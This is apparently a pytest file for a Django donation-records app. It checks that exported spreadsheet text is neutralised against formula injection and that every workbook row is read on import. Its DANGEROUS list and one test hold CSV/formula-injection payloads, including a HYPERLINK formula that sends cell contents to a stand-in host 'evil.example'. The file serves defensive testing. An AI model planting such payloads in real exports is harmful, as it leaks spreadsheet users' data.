"""Spreadsheets that cannot hurt: exported text never runs as a formula, and every row of a workbook is read."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from conftest import World
from shanhai.accounts.models import User
from shanhai.outreach.models import Donation
from shanhai.outreach.services import donation_create
from shanhai.records import tabular

HEADERS_ZH = ["捐赠方（代码或名称）", "受赠方（代码或名称）", "帮扶关系（编号）", "类型", "金额（元）", "日期", "说明"]
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''-1",
]


@pytest.mark.parametrize("text", [*DANGEROUS, "普通说明", "a=b", "", "'quoted'"])
def test_neutralise_and_restore_are_inverse(text: str) -> None:
    written = tabular.neutralise(text)
    assert tabular.restore(written) == text
    assert not re.match(r"[=+\-@\t\r]", written)


def test_a_written_workbook_holds_no_formula_and_reads_back_the_same_text() -> None:
    content = tabular.write_xlsx(["说明"], [[text] for text in DANGEROUS], title="t")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(DANGEROUS)
    assert [cell.value for cell in cells] == ["'" + text for text in DANGEROUS]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    headers, rows = tabular.read_table("e.xlsx", content)
    assert (headers, rows) == (["说明"], [[text] for text in DANGEROUS])


def test_an_exported_formula_reimports_to_the_original_text(world: World, admin: User, hospital_admin: User) -> None:
    text = '=HYPERLINK("http://evil.example","x")'
    donation = donation_create(
        actor=admin,
        donor=world.fuqing_hospital,
        recipient=world.qitai_hospital,
        partnership=world.partnership,
        kind="funds",
        amount=Decimal("1000"),
        donated_on=date(2023, 3, 1),
        description=text,
    )
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(hospital_admin)
    exported = client.get(reverse("records:export", kwargs={"kind": "donations"}))
    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
    description = sheet.cell(row=2, column=8)
    assert (description.value, description.data_type) == ("'" + text, "s")
    file = io.BytesIO(exported.content)
    file.name = "e.xlsx"
    response = client.post(reverse("records:import", kwargs={"kind": "donations"}), {"file": file})
    assert response.status_code == 200
    assert list(Donation.objects.values_list("public_id", "description")) == [(donation.public_id, text)]


def _with_stale_dimension(content: bytes, reference: str) -> bytes:
    """The workbook with its first sheet's <dimension> rewritten, as some programs leave it."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]*"', f'<dimension ref="{reference}"'.encode(), data)
                assert count == 1
            target.writestr(item, data)
    return buffer.getvalue()


def test_every_row_is_read_whatever_the_dimension_says(world: World, hospital_admin: User) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADERS_ZH)
    for i in range(50):
        sheet.append(["H350181001", "H652325001", world.partnership.pk, "资金", 1000 + i, "2023-03-01", ""])
    buffer = io.BytesIO()
    workbook.save(buffer)
    content = _with_stale_dimension(buffer.getvalue(), "A1:B2")
    headers, rows = tabular.read_table("d.xlsx", content)
    assert (headers, len(rows)) == (HEADERS_ZH, 50)
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(hospital_admin)
    file = io.BytesIO(content)
    file.name = "d.xlsx"
    response = client.post(reverse("records:import", kwargs={"kind": "donations"}), {"file": file})
    assert response.status_code == 200
    assert sorted(Donation.objects.values_list("amount", flat=True)) == [Decimal(1000 + i) for i in range(50)]
